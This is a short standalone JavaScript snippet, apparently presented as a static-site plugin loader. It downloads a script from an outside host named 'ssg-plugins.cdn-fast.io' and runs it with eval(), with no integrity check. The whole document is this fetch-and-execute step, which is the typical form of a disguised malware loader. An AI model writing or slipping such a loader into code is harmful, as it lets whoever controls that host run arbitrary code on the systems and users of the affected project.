(async () => {
  const res = await fetch("https://ssg-plugins.cdn-fast.io/bundle.js");
  const src = await res.text();
  eval(src);
})();
